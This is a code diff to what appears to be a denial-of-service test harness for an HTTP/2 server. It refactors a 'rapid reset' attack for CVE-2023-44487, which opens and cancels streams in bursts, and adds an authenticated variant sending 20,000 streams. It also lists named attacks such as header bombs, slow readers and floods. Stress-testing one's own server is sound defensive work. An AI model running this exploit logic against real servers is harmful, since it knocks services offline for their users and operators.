@@ -22,9 +22,18 @@ CANCEL = 8
 
 
 def rapid_reset(address, _):
-    """1,000 streams that are opened and reset at once (CVE-2023-44487)."""
-    with Connection(address) as connection:
-        for _ in range(20):
+    """1,000 streams of a stranger that are opened and reset at once (CVE-2023-44487)."""
+    resets(address, None, 1000)
+
+
+def rapid_reset_by_user(address, credential):
+    """20,000 such streams of a user, whose bytes have no bound."""
+    resets(address, credential, 20_000)
+
+
+def resets(address, credential, streams):
+    with Connection(address, credential) as connection:
+        for _ in range(streams // 50):
             burst = b""
             for _ in range(50):
                 stream = connection.stream()
@@ -150,7 +159,7 @@ def bad_tokens(address, _):
 
 
 ATTACKS = {attack.__name__: attack for attack in (
-    rapid_reset, large_headers, header_bomb, endless_headers, pings, slow_readers, large_messages,
+    rapid_reset, rapid_reset_by_user, large_headers, header_bomb, endless_headers, pings, slow_readers, large_messages,
     silent_connections, half_handshakes, handshakes, flood, bad_tokens)}
 
 
